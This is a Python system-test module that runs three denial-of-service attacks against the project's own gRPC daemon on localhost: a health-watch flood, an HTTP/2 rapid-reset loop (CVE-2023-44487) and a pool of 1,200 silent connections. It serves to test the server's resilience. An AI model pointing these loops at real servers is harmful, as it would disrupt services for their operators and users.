"""Attacks that end with their process: `python -m tests.system.attacks.endless NAME PORT KEYS DRONE`.

Each says "attacking" once it is under way.
"""

from __future__ import annotations

import contextlib
import itertools
import resource
import selectors
import socket
import ssl
import sys
import threading
from pathlib import Path

from tests.system.daemons import channel, shown
from tests.system.hostile import connected, frame, head, spoken_to

from upwash.rpc.protocol import AVAILABILITY

WATCHES, STRANGERS = 1000, 1200
CONNECTIONS, AT_ONCE = 10, 100
WATCH = "/grpc.health.v1.Health/Watch"
RST_STREAM = 3
CANCEL = (8).to_bytes(4)


def health_watches(port: int, keys: Path, drone: str) -> None:
    """Opens and cancels a thousand health watches again and again."""
    for number in itertools.count():
        with channel(f"127.0.0.1:{port}", shown(keys, drone)) as opened:
            watch = opened.unary_stream(WATCH)
            streams = [watch(b"", timeout=10.0) for _ in range(WATCHES)]
            if number == 0:
                print("attacking", flush=True)
            for stream in streams:
                stream.cancel()


def rapid_reset(port: int, keys: Path, drone: str) -> None:
    """Begins requests and breaks them off at once, over connections made anew when closed: CVE-2023-44487."""

    def reset_for_ever() -> None:
        while True:
            with contextlib.suppress(OSError), spoken_to(port, keys, drone) as connection:
                _reset_over(connection)

    for _ in range(CONNECTIONS):
        threading.Thread(target=reset_for_ever, daemon=True).start()
    print("attacking", flush=True)
    threading.Event().wait()


def _reset_over(connection: ssl.SSLSocket) -> None:
    for first in itertools.count(1, 2 * AT_ONCE):
        streams = range(first, first + 2 * AT_ONCE, 2)
        connection.sendall(
            b"".join(
                head(AVAILABILITY, stream=stream) + frame(RST_STREAM, 0, CANCEL, stream=stream)
                for stream in streams
            )
        )


def silent_strangers(port: int, *_: object) -> None:
    """Keeps 1,200 connections open that say nothing; makes anew what is closed."""
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    strangers = selectors.DefaultSelector()
    for _number in range(STRANGERS):
        strangers.register(connected(port), selectors.EVENT_READ)
    print("attacking", flush=True)
    while True:
        for key, _event in strangers.select():
            assert isinstance(key.fileobj, socket.socket)
            strangers.unregister(key.fileobj)
            key.fileobj.close()
            strangers.register(connected(port), selectors.EVENT_READ)


ATTACKS = {each.__name__: each for each in (health_watches, rapid_reset, silent_strangers)}

if __name__ == "__main__":
    _, chosen, at, folder, name = sys.argv
    ATTACKS[chosen](int(at), Path(folder), name)
